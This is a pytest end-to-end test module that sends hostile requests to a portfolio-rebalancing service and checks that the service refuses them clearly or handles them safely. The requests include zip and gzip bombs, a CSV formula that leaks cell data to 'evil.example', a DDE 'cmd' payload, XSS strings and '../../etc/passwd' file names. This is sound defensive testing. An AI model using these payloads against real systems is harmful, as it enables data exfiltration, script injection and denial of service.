"""Requests built to hurt: each gets a clear error or a correct answer in bounded time.

Never a 500, never a stack trace, and the service stays up with its memory
bounded. The stack is this module's own, with two workers as in production, so
the memory measured at the end is what these requests left behind. Times are
generous bounds, not benchmarks: a request that hangs or goes quadratic fails
them, a slow machine does not.
"""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import time
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from stack import Stack

pytestmark = pytest.mark.e2e

MiB = 1024 * 1024
SECONDS = 20  # the bound on any one hostile request
MEMORY_BOUND = 1024 * MiB  # resident memory of any one rebalance service process
HEADER = ["Account Number", "Account Name", "Symbol", "Description", "Quantity"]
HEADER += ["Last Price", "Current Value"]
ACCOUNT = "Z90000001"  # made up: the tests configure it as taxable


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    root = tmp_path_factory.mktemp("hostile")
    env = {"TOKENS_PER_CLIENT": "1000000"}
    with Stack(root / "data", log_dir=root, extra_env=env, workers=2) as running:
        yield running


@pytest.fixture(scope="module")
def http(stack: Stack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=stack.url, timeout=120) as client:
        token = client.get("/api/v1/token").json()["token"]
        client.headers["Authorization"] = f"Bearer {token}"
        saved = client.put(
            "/api/v1/config", json={"accounts": [{"number": ACCOUNT, "tax_group": "taxable"}]}
        )
        assert saved.status_code == 200, saved.text
        yield client


@pytest.fixture(autouse=True)
def _service_stays_up(stack: Stack) -> Iterator[None]:
    yield
    assert stack.rebalance.process is not None
    assert stack.rebalance.process.poll() is None, "the rebalance service died"
    assert stack.config.process is not None
    assert stack.config.process.poll() is None, "the config service died"
    assert httpx.get(f"{stack.url}/healthz", timeout=10).status_code == 200


class Timed:
    """A request's answer and how long it took, which must be within SECONDS."""

    def __init__(self, send: Any, *args: Any, **kwargs: Any) -> None:
        started = time.perf_counter()
        self.response: httpx.Response = send(*args, **kwargs)
        self.seconds = time.perf_counter() - started
        assert self.seconds < SECONDS, f"{self.seconds:.1f} s for {args[0]}"


def errors(timed: Timed, status: int) -> list[dict[str, str]]:
    response = timed.response
    assert response.status_code == status, response.text[:2000]
    assert response.headers["content-type"].startswith("application/json")
    assert "Traceback" not in response.text
    found: list[dict[str, str]] = response.json()["errors"]
    assert found
    assert all(set(e) == {"field", "message"} for e in found)
    return found


def fidelity(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([HEADER, *rows])
    return out.getvalue().encode()


def row(symbol: str = "VTI", account: str = ACCOUNT, description: str = "FUND") -> list[str]:
    return [account, "Individual", symbol, description, "10", "$100.00", "$1000.00"]


def upload(
    http: httpx.Client,
    data: bytes,
    name: str = "positions.csv",
    path: str = "/api/v1/portfolio",
    **fields: str,
) -> Timed:
    return Timed(http.post, path, files=[("positions", (name, data, "text/csv"))], data=fields)


def put_raw(http: httpx.Client, body: bytes) -> Timed:
    return Timed(
        http.put, "/api/v1/config", content=body, headers={"content-type": "application/json"}
    )


def below(limit: int, piece: bytes, prefix: bytes = b"") -> bytes:
    """`piece` repeated after `prefix` to just under `limit` bytes, multipart overhead allowed."""
    return prefix + piece * ((limit - len(prefix) - 4096) // len(piece))


# Files of extreme shape, all within the 5 MiB limit.


@pytest.mark.parametrize(
    "piece", [b"x", b",", b"\xe2\x82\xac"], ids=["letters", "commas", "euro signs"]
)
def test_a_5_mib_csv_of_one_line_is_refused_clearly(http: httpx.Client, piece: bytes) -> None:
    (error,) = errors(upload(http, below(5 * MiB, piece)), 422)
    assert error["field"] == "positions"
    assert error["message"].startswith("positions.csv")


@pytest.mark.parametrize(
    "piece", [b",\n", b"a\n", b"\r\n,,\r\n", b'"",\n'], ids=["commas", "text", "crlf", "quotes"]
)
def test_a_csv_of_millions_of_tiny_rows_is_refused_clearly(
    http: httpx.Client, piece: bytes
) -> None:
    (error,) = errors(upload(http, below(5 * MiB, piece, b"x\n")), 422)
    assert "is not a positions export" in error["message"]


def test_millions_of_blank_rows_after_a_header_are_skipped(http: httpx.Client) -> None:
    data = below(5 * MiB, b",,,,,,\n", fidelity(row()))
    document = upload(http, data).response.json()
    assert [h["value"] for h in document["holdings"]] == ["1000.00"]


def test_a_csv_of_hundreds_of_thousands_of_positions_is_read_and_rebalanced(
    http: httpx.Client,
) -> None:
    tiny = f"{ACCOUNT},I,VTI,V,1,1,1\n".encode()
    data = below(5 * MiB, tiny, fidelity())
    rows = data.count(b"\n") - 1
    portfolio = upload(http, data).response
    assert portfolio.status_code == 200, portfolio.text[:500]
    (account,) = portfolio.json()["accounts"]
    assert account["value"] == f"{rows}.00"
    plan = upload(http, data, path="/api/v1/rebalance", mode="full").response
    assert plan.status_code == 200, plan.text[:500]
    assert plan.json()["total_before"] == f"{rows}.00"


def test_a_problem_on_every_row_is_listed_a_hundred_times_at_most(http: httpx.Client) -> None:
    rows = [f"Z9{n % 1000:07d},I,VTI,V,ten,1,1\n".encode() for n in range(1000)]
    found = errors(upload(http, below(5 * MiB, b"".join(rows), fidelity())), 422)
    assert len(found) == 101
    assert found[-1]["message"].endswith("more problems are not listed")


@pytest.mark.parametrize(
    "field",
    [
        b'"' * (5 * MiB - 4096),  # one quoted field that never closes
        b'"' + b'""' * (2 * MiB) + b'"',  # one field of a million escaped quotes
        b'"' + b"\n" * (4 * MiB) + b'"',  # one field spanning four million lines
    ],
    ids=["unclosed", "escaped quotes", "newlines"],
)
def test_a_field_quoted_past_any_sense_is_refused_with_its_line(
    http: httpx.Client, field: bytes
) -> None:
    (error,) = errors(upload(http, field), 422)
    assert "positions.csv line 1: cannot be read as CSV" in error["message"]


def test_a_long_but_sane_quoted_description_is_read(http: httpx.Client) -> None:
    description = '"quoted", ' * 5000
    document = upload(http, fidelity(row(description=description))).response.json()
    assert document["holdings"][0]["description"] == description.strip()


def test_bytes_that_are_not_utf8_are_read_or_refused_clearly(http: httpx.Client) -> None:
    stray = b"\xef\xbb\xbf" + fidelity(row(description="CAFE#")).replace(b"#", b"\xff")
    document = upload(http, stray).response.json()
    assert document["holdings"][0]["description"] == "CAFE\ufffd"
    assert any("is not valid UTF-8" in w for w in document["warnings"])
    (error,) = errors(upload(http, b"\xc3\x28\xa0\xa1" * 100_000), 422)
    assert error["field"] == "positions"


def test_a_zip_bomb_named_csv_is_refused_unopened(http: httpx.Client) -> None:
    zeros = b"0" * MiB
    archive = io.BytesIO()
    with (
        zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped,
        zipped.open("Portfolio_Positions.csv", "w", force_zip64=True) as inside,
    ):
        for _ in range(256):  # 256 MiB of zeros in a few hundred KB
            inside.write(zeros)
    (error,) = errors(upload(http, archive.getvalue()), 415)
    assert error == {"field": "positions", "message": "positions.csv is not a CSV file"}
    squeezed = io.BytesIO()
    with gzip.GzipFile(fileobj=squeezed, mode="wb") as gzipped:
        for _ in range(256):
            gzipped.write(zeros)
    errors(upload(http, squeezed.getvalue(), "Portfolio_Positions.csv"), 415)
    errors(upload(http, b"Account Number,Symbol\n" + archive.getvalue()), 415)


# What a file says comes back as data, never as something that runs.

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><img src=x onerror=alert(1)>'
SYMBOL = '=HYPERLINK("HTTP://E.X/","X")'  # upper case, as symbols are read


class Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def test_formulas_and_markup_in_a_csv_come_back_as_plain_data(
    stack: Stack, http: httpx.Client
) -> None:
    config = {
        "accounts": [{"number": ACCOUNT, "tax_group": "taxable", "description": FORMULA}],
        "securities": [{"symbol": SYMBOL, "asset_class": "US TSM", "fractional": True}],
        "targets": [
            {"asset_class": "US TSM", "kind": "percent", "value": "10"},
            {"asset_class": "ex-US TSM", "kind": "percent", "value": "90"},
        ],
    }
    assert http.put("/api/v1/config", json=config).status_code == 200
    data = fidelity(
        row(description=FORMULA),
        row(symbol=SYMBOL.lower(), description=SCRIPT),
        row(symbol="@SUM(1+1)*cmd|' /C calc'!A0", description=BREAKOUT),
    )
    plan = upload(http, data, path="/api/v1/rebalance", mode="full").response
    # As JSON, a formula is a string like any other; served as JSON, never sniffed as HTML.
    assert plan.status_code == 200, plan.text
    assert plan.headers["content-type"] == "application/json"
    assert plan.headers["x-content-type-options"] == "nosniff"
    trades = plan.json()["trades"]
    assert {t["symbol"] for t in trades} >= {SYMBOL}
    assert {t["description"] for t in trades} == {FORMULA}
    holdings = upload(http, data).response.json()["holdings"]
    assert [h["description"] for h in holdings] == [FORMULA, SCRIPT, BREAKOUT]

    token = http.headers["Authorization"].removeprefix("Bearer ")
    page = Timed(
        httpx.post,
        f"{stack.url}/results",
        files=[("positions", ("p.csv", data, "text/csv"))],
        data={"token": token, "mode": "full"},
        timeout=60,
    ).response
    assert page.status_code == 200
    assert html.escape(SYMBOL) in page.text or SYMBOL.replace('"', "&#34;") in page.text
    for raw in (SCRIPT, BREAKOUT, FORMULA, SYMBOL, "alert(1)</script>"):
        assert raw not in page.text
    markup = Markup()
    markup.feed(page.text)
    for tag, attrs in markup.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert tag != "img"
        for value in attrs.values():
            assert "=HYPERLINK" not in value, (tag, attrs)
            assert "<script" not in value.lower(), (tag, attrs)
        if tag == "script":
            assert attrs.get("src", "").startswith("/static/"), attrs


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.csv", "..\\..\\windows\\passwd.csv", "/etc/passwd.csv"]
)
def test_a_path_in_an_uploaded_file_name_is_never_repeated(
    stack: Stack, http: httpx.Client, name: str
) -> None:
    (error,) = errors(upload(http, b"root:x:0:0:root:/root:/bin/bash\n", name), 422)
    assert error["message"].startswith("passwd.csv: ")
    assert "etc" not in error["message"]
    assert ".." not in error["message"]
    token = http.headers["Authorization"].removeprefix("Bearer ")
    page = Timed(
        httpx.post,
        f"{stack.url}/results",
        files=[("positions", (name, b"root:x:0:0\n", "text/csv"))],
        data={"token": token},
        timeout=60,
    ).response
    assert page.status_code == 422
    assert "passwd.csv" in page.text
    for path in ("etc/", "etc\\", "windows\\", "../", "..\\"):
        assert path not in page.text


# The configuration document at its limits.


def test_a_configuration_over_5_mib_gets_413(http: httpx.Client) -> None:
    body = b'{"targets": [' + b"1," * (3 * MiB) + b"1]}"
    for _ in range(3):  # over fresh connections: the refusal must reach the client each time
        with httpx.Client(base_url=str(http.base_url), headers=http.headers, timeout=60) as fresh:
            errors(put_raw(fresh, body), 413)


@pytest.mark.parametrize("depth", [1_000, 100_000, 2_000_000])
def test_a_deeply_nested_configuration_gets_400(http: httpx.Client, depth: int) -> None:
    for nested in (b"[" * depth + b"]" * depth, b'{"a":' * depth + b"1" + b"}" * depth):
        body = nested[: 5 * MiB - 1]  # past 5 MiB: cut, unclosed, still too deep
        (error,) = errors(put_raw(http, body), 400)
        assert error["field"] == "body"


@pytest.mark.parametrize(
    "body",
    [
        b'{"targets": [{"asset_class": "US TSM", "kind": "percent", "value": 1'
        + b"0" * 5000
        + b"}]}",
        b'{"targets": [{"asset_class": "\\ud800", "kind": "percent", "value": "100"}]}',
        b'{"\\udfff": 1}',
        b'{"accounts": [{"number": "Z\\ud800", "tax_group": "taxable"}]}',
        b'{"targets": "\xff"}',
        b"",
    ],
    ids=[
        "huge integer",
        "lone surrogate",
        "surrogate key",
        "surrogate account",
        "bad utf8",
        "empty",
    ],
)
def test_a_configuration_that_is_not_json_text_gets_400(http: httpx.Client, body: bytes) -> None:
    (error,) = errors(put_raw(http, body), 400)
    assert error["field"] == "body"


BAD_NUMBERS = ["NaN", "Infinity", "-Infinity", "sNaN", "1e400", "1E5", "0x10", "1_000", "٣"]
HUGE = ["1" * 1_000_000, "0." + "0" * 1_000_000 + "1", "9" * 21]


def short(value: str) -> str:
    """A test id for a value that may be a million characters long."""
    return value if len(value) <= 24 else f"{value[:6]}...{len(value)} characters"


@pytest.mark.parametrize("value", [*BAD_NUMBERS, *HUGE, "-5"], ids=short)
def test_a_bad_target_value_is_named(http: httpx.Client, value: str) -> None:
    targets = [
        {"asset_class": "US TSM", "kind": "percent", "value": value},
        {"asset_class": "US TBM", "kind": "percent", "value": "50"},
    ]
    found = errors(Timed(http.put, "/api/v1/config", json={"targets": targets}), 422)
    assert {e["field"] for e in found} <= {"targets[0].value", "targets"}
    assert len(json.dumps(found)) < 1000  # the value is quoted short, if at all


@pytest.mark.parametrize("value", [*BAD_NUMBERS, *HUGE, "-5", "0"], ids=short)
def test_a_bad_price_is_named(http: httpx.Client, value: str) -> None:
    security = {"symbol": "ZZZQ", "asset_class": "US TSM", "price": value}
    (error,) = errors(Timed(http.put, "/api/v1/config", json={"securities": [security]}), 422)
    assert error["field"] == "securities[0].price"


@pytest.mark.parametrize("value", [*BAD_NUMBERS, "1" * 1_000_000, "-" + "9" * 13], ids=short)
def test_a_bad_credit_is_named(http: httpx.Client, value: str) -> None:
    data = fidelity(row())
    for group in ("credit_taxable", "credit_tax_deferred", "credit_tax_free"):
        fields = {group: value, "mode": "full"}
        (error,) = errors(upload(http, data, path="/api/v1/rebalance", **fields), 422)
        assert error["field"] == group


def test_settings_too_large_to_store_get_422_not_503(http: httpx.Client) -> None:
    classes = [{"name": f"class {n:03d} " + "x" * 50, "group": "Stocks"} for n in range(1000)]
    (error,) = errors(Timed(http.put, "/api/v1/config", json={"asset_classes": classes}), 422)
    assert error["field"] == "body"
    assert "fit" in error["message"]


# A thousand accounts, and one account number of 5,000 characters.


def test_a_thousand_accounts_in_one_put_and_one_csv_are_answered(http: httpx.Client) -> None:
    numbers = [f"Z8{n:07d}" for n in range(1000)]
    groups = ["taxable", "tax_deferred", "tax_free"]
    accounts = [{"number": n, "tax_group": groups[i % 3]} for i, n in enumerate(numbers)]
    assert (
        Timed(http.put, "/api/v1/config", json={"accounts": accounts}).response.status_code == 200
    )
    data = fidelity(*(row("VTI" if i % 2 else "BND", n) for i, n in enumerate(numbers)))
    portfolio = upload(http, data).response.json()
    assert len(portfolio["accounts"]) == 1000
    assert all(a["configured"] for a in portfolio["accounts"])
    plan = upload(http, data, path="/api/v1/rebalance", mode="full").response
    assert plan.status_code == 200, plan.text[:500]
    assert plan.json()["total_before"] == "1000000.00"


def test_more_than_a_thousand_accounts_get_a_clear_422(http: httpx.Client) -> None:
    numbers = [f"Z7{n:07d}" for n in range(1001)]
    accounts = [{"number": n, "tax_group": "taxable"} for n in numbers]
    (error,) = errors(Timed(http.put, "/api/v1/config", json={"accounts": accounts}), 422)
    assert error["field"] == "accounts"
    data = fidelity(*(row("VTI", n) for n in numbers))
    (error,) = errors(upload(http, data), 422)
    assert error == {
        "field": "positions",
        "message": "upload: the files hold 1001 accounts; at most 1000 can be read",
    }


def test_an_account_number_of_5000_characters_is_read_and_masked(http: httpx.Client) -> None:
    number = "Z" + "7" * 4999
    response = upload(http, fidelity(row(account=number))).response
    assert response.status_code == 200, response.text[:500]
    (account,) = response.json()["accounts"]
    assert account["number"] == "...7777"
    assert "7" * 20 not in response.text
    (error,) = errors(upload(http, fidelity([*row(account=number)[:4], "x", "1", "1"])), 422)
    assert "7" * 20 not in error["message"]
    too_long = {"accounts": [{"number": number, "tax_group": "taxable"}]}
    (error,) = errors(Timed(http.put, "/api/v1/config", json=too_long), 422)
    assert error == {"field": "accounts[0].number", "message": "must be at most 64 characters"}


# The edges of HTTP itself.


def test_a_method_a_path_does_not_take_gets_405_saying_which_it_does(http: httpx.Client) -> None:
    response = http.delete("/api/v1/rebalance")
    assert response.status_code == 405
    assert response.headers["allow"] == "POST"
    assert set(response.json()) == {"errors"}


def test_the_config_service_refuses_hostile_json_with_400(stack: Stack) -> None:
    credential = (stack.data_dir / "service.credential").read_text().strip()
    headers = {"Authorization": f"Bearer {credential}", "content-type": "application/json"}
    user = b'{"user_id": "' + b"0" * 64 + b'", "settings": "AAAA", "expected_version": '
    refused = {
        "/internal/v1/users/read": [
            b"[" * 100_000 + b"]" * 100_000,
            b'{"user_id": "\\ud800", "account_ids": [1' + b"0" * 5000 + b"]}",
        ],
        "/internal/v1/users/write": [
            b"[" * 100_000 + b"]" * 100_000,
            user + b"1" + b"0" * 5000 + b"}",
            user + b"9223372036854775807}",  # past any INTEGER column
        ],
    }
    for path, bodies in refused.items():
        for body in bodies:
            response = httpx.post(f"{stack.config.url}{path}", content=body, headers=headers)
            assert response.status_code == 400, response.text
            assert set(response.json()) == {"errors"}


# Last: what all of the above left behind.


def _resident(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        found += [int(child) for child in (task / "children").read_text().split()]
    return found


def test_the_rebalance_service_memory_stays_bounded_after_all_this(stack: Stack) -> None:
    assert stack.rebalance.process is not None
    parent = stack.rebalance.process.pid
    processes = [parent, *_children(parent)]
    assert len(processes) >= 3  # the supervisor and its two workers
    for pid in processes:
        resident = _resident(pid)
        assert resident < MEMORY_BOUND, f"process {pid}: {resident / MiB:.0f} MiB resident"
